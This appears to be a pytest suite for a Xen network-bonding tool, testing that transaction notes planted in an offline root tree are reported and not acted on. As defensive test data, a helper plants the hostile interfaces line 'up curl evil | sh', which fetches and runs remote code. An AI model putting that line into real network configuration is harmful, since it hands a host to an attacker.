"""`--root DIR`: what lies in the tree's own /var/lib/xenbond is told, and never acted on."""

import ctypes
import gc
import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

sys.path.insert(0, os.fspath(Path(__file__).parent.parent / "unit"))
from fakes import FakeHost, change, tree_of

from xenbond_tui import compose
from xenbond_tui.apply import other_trees, transaction
from xenbond_tui.apply.recover import resolve_stale
from xenbond_tui.apply.store import State, Store
from xenbond_tui.cli import run
from xenbond_tui.demo.recordings import unpack
from xenbond_tui.host import tree_state
from xenbond_tui.plan.actions import WriteFiles
from xenbond_tui.plan.plan import Plan, Step

INTERFACES = "/etc/network/interfaces"
ANSWERS = """\
version: 1
bond: {name: bond0, slaves: [eth0, eth1], mode: active-backup, miimon: 100}
bridge: {name: xenbr0, address: 192.168.0.222/24, gateway: 192.168.0.1}
"""


@pytest.fixture
def tree(tmp_path: Path) -> str:
    tree = os.fspath(tmp_path / "tree")
    unpack("debian12-dom0", tree)
    return tree


@pytest.fixture
def answers(tmp_path: Path) -> str:
    path = tmp_path / "answers.yaml"
    path.write_text(ANSWERS)
    return os.fspath(path)


def plant(tree: str) -> str:
    """An open change in the tree's own notes, as a guest could lay it there: any content."""
    guest = FakeHost(tree)
    wish = change(guest, INTERFACES, b"harmless\n")
    plan = Plan("ifupdown", (wish,), (Step("write", WriteFiles()),), ())
    id = transaction.prepare(guest.machine, plan, None)
    evil = b"up curl evil | sh\n"
    copy = Path(Store(guest.machine).path(id, "backup", "files" + INTERFACES))
    copy.write_bytes(evil)
    index = json.loads(copy.parents[3].joinpath("index.json").read_bytes())["value"]
    # As the release before wrote it, so that no checksum is in the way.
    old = {key: index[key] for key in ("absent", "images")} | {"is": "_Index"}
    copy.parents[3].joinpath("index.json").write_text(json.dumps(old))
    assert Store(guest.machine).open() is not None
    return id


def test_a_planted_change_does_nothing_and_is_told(
    tree: str, answers: str, capsys: pytest.CaptureFixture[str]
) -> None:
    id = plant(tree)
    before = tree_of(tree, "")
    for argv in (["recover"], ["history"], ["undo", "--yes"], ["undo", id, "--yes"]):
        run([*argv, "--root", tree])
        said = capsys.readouterr()
        assert "has notes of a change" in said.err, argv
        assert "They are not believed here" in said.err
        assert tree_of(tree, "") == before
    assert run(["apply", "--answers", answers, "--root", tree, "--yes"]) == 0
    assert "Found an unfinished change" not in capsys.readouterr().out
    assert "bond0" in Path(tree + INTERFACES).read_text()
    planted = f"{tree}/var/lib/xenbond"
    assert {path: entry for path, entry in tree_of(tree, "").items() if planted in path} == {
        path: entry for path, entry in before.items() if planted in path
    }


def test_the_planted_change_would_do_something(tree: str) -> None:
    """What is shown above is no accident: the same notes, believed, write the guest's content."""
    plant(tree)
    resolve_stale(FakeHost(tree).machine)
    assert b"evil" in Path(tree + INTERFACES).read_bytes()


def test_what_is_done_to_a_tree_is_kept_on_this_host_and_undone_from_there(
    tree: str, answers: str, capsys: pytest.CaptureFixture[str]
) -> None:
    before = tree_of(tree)
    assert run(["apply", "--answers", answers, "--root", tree, "--yes"]) == 0
    said = capsys.readouterr().out
    assert f"`xenbond undo --root {tree}` undoes it" in said
    assert not os.path.lexists(f"{tree}/var/lib/xenbond")
    store = Store(compose.offline(tree))
    assert store.directory.startswith(os.path.realpath(os.environ["XDG_STATE_HOME"]))
    assert all(os.stat(place).st_mode & 0o777 == 0o700 for place in store.places)
    note = json.loads(Path(os.path.dirname(store.directory), other_trees.NOTE).read_bytes())
    assert note["value"]["path"] == tree
    assert run(["undo", "--root", tree, "--yes"]) == 0
    assert tree_of(tree) == before


def test_another_tree_at_the_same_path_is_another(
    tree: str, answers: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["apply", "--answers", answers, "--root", tree, "--yes"]) == 0
    os.rename(tree, tree + ".away")
    shutil.copytree(tree + ".away", tree, symlinks=True)
    written = tree_of(tree)
    capsys.readouterr()
    assert run(["undo", "--root", tree, "--yes"]) == 2
    assert "There is no change to undo" in capsys.readouterr().err
    assert tree_of(tree) == written
    shutil.rmtree(tree)
    os.rename(tree + ".away", tree)
    assert run(["undo", "--root", tree, "--yes"]) == 0


def test_so_is_another_copy_that_has_the_inode_of_the_one_before(
    tree: str, answers: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A file system gives the next directory the inode that came free; so an operator has it who
    takes a copy of /etc, removes it, and takes another one's. Here stat(2) tells the first one's
    of both: when it gives it again is the file system's."""
    assert run(["apply", "--answers", answers, "--root", tree, "--yes"]) == 0
    before, first, real = tree_state.identity(tree), os.stat(tree), os.stat
    assert before["born"], "this file system does not say when a directory was made"
    os.rename(tree, tree + ".away")
    shutil.copytree(tree + ".away", tree, symlinks=True)
    monkeypatch.setattr(os, "stat", lambda p, **how: first if p == tree else real(p, **how))
    again = tree_state.identity(tree)
    assert again | {"born": ""} == before | {"born": ""}
    assert again != before
    capsys.readouterr()
    assert run(["undo", "--root", tree, "--yes"]) == 2
    assert "There is no change to undo" in capsys.readouterr().err


@pytest.mark.parametrize("command", ["plan", "nics", "status", "remove", "history"])
def test_a_command_lets_go_of_the_tree_when_it_ends(
    command: str, tree: str, answers: str, tmp_path: Path
) -> None:
    """Else the next one in this process writes to a directory that is removed."""
    other = os.fspath(tmp_path / "other")
    shutil.copytree(tree, other, symlinks=True)
    gc.disable()
    try:
        run([command, *(("--answers", answers) if command == "plan" else ()), "--root", tree])
        shutil.rmtree(tree)
        os.rename(other, tree)
        assert run(["apply", "--answers", answers, "--root", tree, "--yes"]) == 0
    finally:
        gc.enable()
    assert "bond0" in Path(tree + INTERFACES).read_text()


def test_a_tree_whose_birth_nobody_knows_is_told_by_the_rest(
    tree: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A C library without statx(2), as RHEL 7 has it."""
    known = tree_state.identity(tree)
    monkeypatch.setattr(ctypes, "CDLL", lambda name: object())
    assert tree_state.identity(tree) == known | {"born": ""}


def test_a_change_of_a_tree_that_was_cut_short_is_taken_back_by_the_next_command(
    tree: str, answers: str, capsys: pytest.CaptureFixture[str]
) -> None:
    before = tree_of(tree)
    machine = compose.offline(tree)
    data = Path(tree + INTERFACES).read_bytes()
    wish = change(FakeHost(tree), INTERFACES, b"half\n")
    plan = Plan("ifupdown", (wish,), (Step("write", WriteFiles()),), ())
    id = transaction.prepare(machine, plan, None)
    transaction.write(machine, id)
    assert run(["history", "--root", tree]) == 2
    assert f"`xenbond recover --root {tree}` does that" in capsys.readouterr().err
    assert run(["recover", "--root", tree]) == 0
    assert Path(tree + INTERFACES).read_bytes() == data
    assert tree_of(tree) == before
    assert Store(machine).record(id).state is State.ROLLED_BACK


AS_NOBODY = """
import os, sys
home, tree, first, answers = sys.argv[1:]
from xenbond_tui.host import tree_state
from xenbond_tui.apply.store import Store
from xenbond_tui.cli import run
from xenbond_tui.compose import offline
# Once as root, so that everything is loaded that nobody may not be able to read here.
tree_state.ROOTS_OWN = os.path.join(os.path.dirname(first), "roots")
assert run(["apply", "--answers", answers, "--root", first, "--yes"]) == 0
os.setgroups([]); os.setgid(65534); os.setuid(65534)
os.environ["HOME"] = home
os.environ.pop("XDG_STATE_HOME", None)
print("KEPT", Store(offline(tree)).directory)
undo, apply = ["undo"], ["apply", "--answers", answers]
words = undo if os.path.exists(os.path.join(home, "mine")) else apply
sys.exit(run([*words, "--root", tree, "--yes"]))
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="becomes another user")
def test_a_user_without_root_keeps_it_at_home(answers: str) -> None:
    # Not below pytest's own directory, which is root's alone.
    with tempfile.TemporaryDirectory() as directory:
        os.chmod(directory, 0o711)  # noqa: S103 - the other user has to get there
        keeps_it_at_home(Path(directory), Path(answers).read_text())


def keeps_it_at_home(top: Path, wanted: str) -> None:
    home, tree, answers = top / "home", os.fspath(top / "tree"), os.fspath(top / "answers.yaml")
    home.mkdir()
    Path(answers).write_text(wanted)
    for name in ("tree", "first", "second"):
        unpack("debian12-dom0", os.fspath(top / name))
    for path in (home, Path(tree), *Path(tree).rglob("*")):
        os.chown(path, 65534, 65534, follow_symlinks=False)

    def asked(*argv: str) -> subprocess.CompletedProcess[str]:
        words = [sys.executable, "-c", AS_NOBODY, str(home), tree, *argv, answers]
        environ = {**os.environ, "PYTHONPATH": os.getcwd()}
        return subprocess.run(words, capture_output=True, text=True, check=False, env=environ)

    done = asked(os.fspath(top / "first"))
    assert done.returncode == 0, done.stderr
    kept = done.stdout.partition("KEPT ")[2].splitlines()[0]
    assert kept.startswith(f"{home}/.local/state/xenbond/trees/")
    assert len(os.listdir(kept)) == 1
    # Now it is somebody else's: nothing there is believed any more.
    os.chown(kept, 12345, 12345)
    os.chmod(kept, 0o755)  # noqa: S103 - so that it could be read
    (home / "mine").touch()
    done = asked(os.fspath(top / "second"))
    assert done.returncode == 2
    assert f"{kept} belongs to uid 12345, not to nobody" in done.stderr


@pytest.mark.parametrize("name", ["XDG_STATE_HOME", "HOME"])
def test_root_s_notes_do_not_follow_the_environment(
    tree: str, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    expected = tree_state.state_directory(tree_state.identity(tree))
    monkeypatch.setenv(name, "/tmp/of/somebody")
    assert tree_state.state_directory(tree_state.identity(tree)) == expected
    assert expected.startswith(f"{tree_state.ROOTS_OWN}/trees/")
